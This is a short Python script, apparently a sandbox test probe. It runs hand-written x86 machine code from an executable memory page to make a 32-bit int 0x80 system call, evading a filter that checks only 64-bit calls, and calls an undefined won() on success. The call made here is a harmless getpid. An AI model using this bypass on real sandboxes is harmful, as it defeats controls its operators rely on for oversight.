"""Calls the kernel as a 32-bit program would, past a filter that only knows 64-bit calls."""

import ctypes
import mmap

ON, EARNS, STATUS = "stubs", 0, "killed"

page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
page.write(bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3]))  # mov eax, getpid; int 0x80; ret
result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
if result > 0:
    won("a 32-bit system call")
